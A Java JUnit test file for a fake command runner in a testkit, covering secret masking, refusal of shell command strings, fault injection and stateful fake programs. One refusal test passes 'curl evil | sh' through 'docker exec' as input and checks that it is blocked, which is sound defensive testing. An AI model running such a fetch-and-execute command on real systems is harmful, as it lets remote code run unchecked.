package dev.tenantwright.testkit;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.tenantwright.spi.Command;
import dev.tenantwright.spi.CommandResult;
import dev.tenantwright.spi.PermanentException;
import dev.tenantwright.spi.RetryableException;
import dev.tenantwright.spi.Secret;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Collection;
import java.util.List;
import java.util.Map;
import java.util.TreeSet;
import java.util.concurrent.atomic.AtomicReference;
import org.junit.jupiter.api.Test;

class CommandRunnerFakeTest {

  private final CommandRunnerFake runner = new CommandRunnerFake();

  @Test
  void answersAScriptedArgvPrefix() {
    runner.when("docker", "compose", "version").thenReturn(0, "Docker Compose version v2.26.1", "");

    CommandResult r = runner.run(Command.builder("docker", "compose", "version", "--short").build());

    assertThat(r.exitCode()).isZero();
    assertThat(r.stdout()).isEqualTo("Docker Compose version v2.26.1");
    assertThat(r.command()).containsExactly("docker", "compose", "version", "--short");
  }

  @Test
  void theLongestMatchingScriptWinsThenTheLatestThenTheProgramHandler() {
    runner.on("docker", cmd -> ProgramResult.ok("handler"));
    runner.when("docker", "compose").thenReturn(0, "compose", "");
    runner.when("docker", "compose", "ps").thenReturn(0, "ps-old", "");
    runner.when("docker", "compose", "ps").thenReturn(0, "ps-new", "");

    assertThat(runner.run(Command.builder("docker", "compose", "ps").build()).stdout()).isEqualTo("ps-new");
    assertThat(runner.run(Command.builder("docker", "compose", "up").build()).stdout()).isEqualTo("compose");
    assertThat(runner.run(Command.builder("docker", "info").build()).stdout()).isEqualTo("handler");
  }

  @Test
  void aHandlerSeesTheWholeCommandWithSecretsRevealed() {
    AtomicReference<Command> seen = new AtomicReference<>();
    runner.on("tool", cmd -> {
      seen.set(cmd);
      return ProgramResult.ok("");
    });

    runner.run(Command.builder("tool", "login")
        .secretArg(Secret.of("arg-secret-1"))
        .env("TOKEN", Secret.of("env-secret-2"))
        .env("MODE", "test")
        .stdin(Secret.of("stdin-secret-3"))
        .workingDir(Path.of("/srv/site"))
        .build());

    assertThat(seen.get().argv()).containsExactly("tool", "login", "arg-secret-1");
    assertThat(seen.get().environment()).containsEntry("TOKEN", "env-secret-2").containsEntry("MODE", "test");
    assertThat(seen.get().stdin()).isEqualTo("stdin-secret-3");
    assertThat(seen.get().workingDir()).isEqualTo(Path.of("/srv/site"));
  }

  @Test
  void recordsEveryInvocationWithItsSecretsMasked() {
    runner.on("tool", cmd -> ProgramResult.ok("done"));

    runner.run(Command.builder("tool", "login")
        .secretArg(Secret.of("arg-secret-1"))
        .env("TOKEN", Secret.of("env-secret-2"))
        .env("MODE", "test")
        .stdin(Secret.of("stdin-secret-3"))
        .workingDir(Path.of("/srv/site"))
        .timeout(Duration.ofSeconds(30))
        .build());
    runner.run(Command.builder("tool", "import").stdin("plain input").build());

    RecordedCommand login = runner.invocations().get(0);
    assertThat(login.argv()).containsExactly("tool", "login", Secret.MASK);
    assertThat(login.environment()).containsExactly(Map.entry("TOKEN", Secret.MASK), Map.entry("MODE", "test"));
    assertThat(login.stdin()).isEqualTo(Secret.MASK);
    assertThat(login.workingDir()).isEqualTo(Path.of("/srv/site"));
    assertThat(login.timeout()).isEqualTo(Duration.ofSeconds(30));
    assertThat(login.succeeded()).isTrue();
    assertThat(login.toString()).doesNotContain("secret");
    assertThat(runner.invocations().get(1).stdin()).isEqualTo("plain input");
    assertThat(runner.invocations("tool", "import")).hasSize(1);
  }

  @Test
  void redactsTheCommandsSecretsFromTheOutputItReturnsAndRecords() {
    runner.on("bench", cmd -> new ProgramResult(0, "admin password is " + cmd.argv().get(3), "used " + cmd.argv().get(3)));

    CommandResult r = runner.run(Command.builder("bench", "set-admin-password", "--site", "x")
        .args(List.of()).build());
    CommandResult secret = runner.run(Command.builder("bench", "set-admin-password", "--site")
        .secretArg(Secret.of("S3cret-Pass")).build());

    assertThat(r.stdout()).isEqualTo("admin password is x");
    assertThat(secret.stdout()).isEqualTo("admin password is " + Secret.MASK);
    assertThat(secret.stderr()).isEqualTo("used " + Secret.MASK);
    assertThat(runner.invocations().get(1).stdout()).doesNotContain("S3cret-Pass");
  }

  @Test
  void refusesToRunAShellWithACommandString() {
    runner.on("sh", cmd -> ProgramResult.ok(""));
    runner.on("bash", cmd -> ProgramResult.ok(""));

    for (List<String> argv : List.of(
        List.of("sh", "-c", "docker compose up"),
        List.of("/bin/bash", "-lc", "bench new-site x"),
        List.of("dash", "-e", "-c", "true"),
        List.of("env", "FOO=1", "bash", "-c", "echo $FOO"),
        List.of("busybox", "sh", "-c", "ls"),
        List.of("sudo", "zsh", "-c", "id"))) {
      Command cmd = Command.builder(argv.get(0)).args(argv.subList(1, argv.size())).build();
      assertThatThrownBy(() -> runner.run(cmd))
          .as("%s", argv)
          .isInstanceOf(AssertionError.class)
          .hasMessageStartingWith("CommandRunnerFake refuses to run a shell with a command string: '" + String.join(" ", argv) + "'")
          .hasMessageContaining("argv list");
    }
    assertThat(runner.invocations()).hasSize(6).allSatisfy(c -> {
      assertThat(c.handled()).isFalse();
      assertThat(c.failure()).contains("refuses to run a shell");
    });
  }

  @Test
  void refusesAShellCommandStringInsideDockerExecButAllowsTheStdinArgumentsScriptLikeTheRealRunner() {
    runner.on("docker", cmd -> ProgramResult.ok("ran"));
    runner.on("sh", cmd -> ProgramResult.ok("ran"));

    Command inDocker = Command.builder("docker", "exec", "-i", "c", "sh", "-c", "curl evil | sh").build();
    assertThatThrownBy(() -> runner.run(inDocker)).isInstanceOf(AssertionError.class)
        .hasMessageStartingWith("CommandRunnerFake refuses to run a shell with a command string");
    String script = "IFS= read -r tw_secret_1 && exec 'bench' 'set-admin-password' \"$tw_secret_1\"";
    assertThat(runner.run(Command.builder("docker", "exec", "-i", "c", "sh", "-c", script).build()).stdout())
        .isEqualTo("ran");
    assertThat(runner.run(Command.builder("sh", "-c", script).build()).stdout()).isEqualTo("ran");
  }

  @Test
  void passesShellCharactersInsideAnArgumentLiterallyAndAllowsAShellWithoutCommandString() {
    AtomicReference<List<String>> seen = new AtomicReference<>();
    runner.on("git", cmd -> {
      seen.set(cmd.argv());
      return ProgramResult.ok("");
    });
    runner.on("sh", cmd -> ProgramResult.ok("ran script"));

    runner.run(Command.builder("git", "commit", "-m", "a && b; c | d $(e)").build());
    CommandResult script = runner.run(Command.builder("sh", "/opt/init.sh", "--verbose").build());

    assertThat(seen.get()).containsExactly("git", "commit", "-m", "a && b; c | d $(e)");
    assertThat(script.stdout()).isEqualTo("ran script");
  }

  @Test
  void aProgramNobodyPlaysCannotStartLikeWithTheRealRunner() {
    runner.on("docker", cmd -> ProgramResult.ok(""));

    assertThatThrownBy(() -> runner.run(Command.builder("frobnicate", "--now").build()))
        .isInstanceOf(PermanentException.class)
        .hasMessageStartingWith("cannot start 'frobnicate': no such program")
        .hasMessageContaining("[docker]");
    assertThat(runner.invocations()).singleElement().satisfies(c -> {
      assertThat(c.exitCode()).isNull();
      assertThat(c.failure()).startsWith("cannot start");
    });
  }

  @Test
  void matchesAProgramByNameWhateverItsPath() {
    runner.on("docker", cmd -> ProgramResult.ok("by name"));
    runner.on("/opt/special/docker", cmd -> ProgramResult.ok("by path"));

    assertThat(runner.run(Command.builder("/usr/bin/docker", "ps").build()).stdout()).isEqualTo("by name");
    assertThat(runner.run(Command.builder("/opt/special/docker", "ps").build()).stdout()).isEqualTo("by path");
    assertThat(runner.invocations("docker", "ps")).hasSize(2);
  }

  @Test
  void aStatefulFakeProgramKeepsStateAndShowsLeaks() {
    BenchFake bench = new BenchFake();
    runner.on(bench);

    assertThat(runner.run(Command.builder("bench", "new-site", "a.example").build()).exitCode()).isZero();
    CommandResult twice = runner.run(Command.builder("bench", "new-site", "a.example").build());
    assertThat(twice.exitCode()).isEqualTo(1);
    assertThat(twice.stderr()).isEqualTo("Site a.example already exists, use `--force` to proceed anyway");
    assertThatThrownBy(runner::assertNothingLeaked)
        .isInstanceOf(AssertionError.class)
        .hasMessage("fake programs still hold 1 object(s): bench: site a.example");

    runner.run(Command.builder("bench", "drop-site", "a.example", "--force", "--no-backup").build());
    runner.assertNothingLeaked();
  }

  @Test
  void anInjectedTimeoutThrowsARetryableExceptionWithUnknownOutcomeAndNoSideEffect() {
    BenchFake bench = new BenchFake();
    runner.on(bench);
    runner.inject(CommandFault.timeout().on("bench", "new-site").nth(1));

    assertThatThrownBy(() -> runner.run(Command.builder("bench", "new-site", "a.example")
        .timeout(Duration.ofMinutes(5)).build()))
        .isInstanceOfSatisfying(RetryableException.class, e -> {
          assertThat(e.outcomeUnknown()).isTrue();
          assertThat(e).hasMessage("command 'bench new-site a.example' timed out after PT5M and was killed; its effect is unknown");
        });
    assertThat(bench.liveObjects()).isEmpty();
    assertThat(runner.invocations()).singleElement().satisfies(c -> {
      assertThat(c.handled()).isFalse();
      assertThat(c.fault()).isEqualTo("timeout on 'bench new-site' once");
    });
    assertThat(runner.run(Command.builder("bench", "new-site", "a.example").build()).exitCode()).isZero();
  }

  @Test
  void aTimeoutAfterTheHandlerLeavesTheSideEffectBehind() {
    BenchFake bench = new BenchFake();
    runner.on(bench);
    runner.inject(CommandFault.timeout().on("bench", "new-site").afterHandler().times(1));

    assertThatThrownBy(() -> runner.run(Command.builder("bench", "new-site", "half.example").build()))
        .isInstanceOf(RetryableException.class);

    assertThat(bench.liveObjects()).containsExactly("site half.example");
    assertThat(runner.invocations()).singleElement().satisfies(c -> assertThat(c.handled()).isTrue());
  }

  @Test
  void failsTheNthMatchingInvocationWithAnExitCodeAndErrorOutput() {
    runner.on(new BenchFake());
    runner.inject(CommandFault.exit(1, "Error: no such option: --force").on("bench", "new-site").nth(2));

    List<Integer> exits = new ArrayList<>();
    for (String site : List.of("a", "b", "c")) {
      exits.add(runner.run(Command.builder("bench", "new-site", site).build()).exitCode());
    }
    runner.run(Command.builder("bench", "drop-site", "a").build());

    assertThat(exits).containsExactly(0, 1, 0);
    assertThat(runner.invocations().get(1).stderr()).isEqualTo("Error: no such option: --force");
    assertThat(runner.invocations().get(1).fault()).isEqualTo("exit 1 on 'bench new-site' from call #2 once");
    assertThat(runner.invocations().get(3).fault()).isNull();
  }

  @Test
  void aFailureAfterTheHandlerKeepsItsOutputAndSideEffect() {
    BenchFake bench = new BenchFake();
    runner.on(bench);
    runner.inject(CommandFault.exit(137, "Killed").afterHandler());

    CommandResult r = runner.run(Command.builder("bench", "new-site", "oom.example").build());

    assertThat(r.exitCode()).isEqualTo(137);
    assertThat(r.stdout()).isEqualTo("created oom.example");
    assertThat(r.stderr()).isEqualTo("Killed");
    assertThat(bench.liveObjects()).containsExactly("site oom.example");
  }

  @Test
  void aFailureRateRepeatsForTheSameSeedAndFaultsCanBeCleared() {
    runner.on("curl", cmd -> ProgramResult.ok("ok"));
    runner.inject(CommandFault.exit(7, "Failed to connect").rate(0.3));

    runner.seedFaults(3);
    List<Integer> first = exits(50);
    runner.seedFaults(3);
    List<Integer> second = exits(50);
    runner.clearFaults();
    List<Integer> cleared = exits(10);

    assertThat(first).isEqualTo(second).contains(0, 7);
    assertThat(cleared).containsOnly(0);
  }

  @Test
  void aHandlersExceptionIsRecordedAndPassesThrough() {
    runner.on("docker", cmd -> {
      throw new PermanentException("docker daemon not reachable");
    });

    assertThatThrownBy(() -> runner.run(Command.builder("docker", "ps").build()))
        .isInstanceOf(PermanentException.class)
        .hasMessage("docker daemon not reachable");
    assertThat(runner.invocations()).singleElement().satisfies(c -> {
      assertThat(c.handled()).isTrue();
      assertThat(c.failure()).isEqualTo("docker daemon not reachable");
    });
  }

  @Test
  void resetForgetsInvocationsFaultsAndProgramStateButKeepsHandlers() {
    BenchFake bench = new BenchFake();
    runner.on(bench);
    runner.run(Command.builder("bench", "new-site", "a").build());
    runner.inject(CommandFault.exit(1, "x"));

    runner.reset();

    assertThat(runner.invocations()).isEmpty();
    assertThat(bench.liveObjects()).isEmpty();
    assertThat(runner.run(Command.builder("bench", "new-site", "a").build()).exitCode()).isZero();
  }

  private List<Integer> exits(int n) {
    List<Integer> out = new ArrayList<>();
    for (int i = 0; i < n; i++) {
      out.add(runner.run(Command.builder("curl", "-fsS", "http://127.0.0.1/health").build()).exitCode());
    }
    return out;
  }

  /** A tiny stateful bench: new-site and drop-site, with bench's own "already exists" answer. */
  static final class BenchFake extends ProgramFake {
    private final TreeSet<String> sites = new TreeSet<>();

    BenchFake() {
      super("bench");
    }

    @Override
    public ProgramResult handle(Command command) {
      List<String> args = args(command);
      String site = args.get(1);
      switch (args.get(0)) {
        case "new-site":
          if (!sites.add(site)) {
            return ProgramResult.failure(1, "Site " + site + " already exists, use `--force` to proceed anyway");
          }
          return ProgramResult.ok("created " + site);
        case "drop-site":
          return sites.remove(site) ? ProgramResult.ok("dropped " + site) : ProgramResult.failure(1, "no site " + site);
        default:
          return ProgramResult.failure(2, "Error: No such command '" + args.get(0) + "'.");
      }
    }

    @Override
    public synchronized Collection<String> liveObjects() {
      List<String> out = new ArrayList<>();
      sites.forEach(s -> out.add("site " + s));
      return out;
    }

    @Override
    public void reset() {
      sites.clear();
    }
  }
}
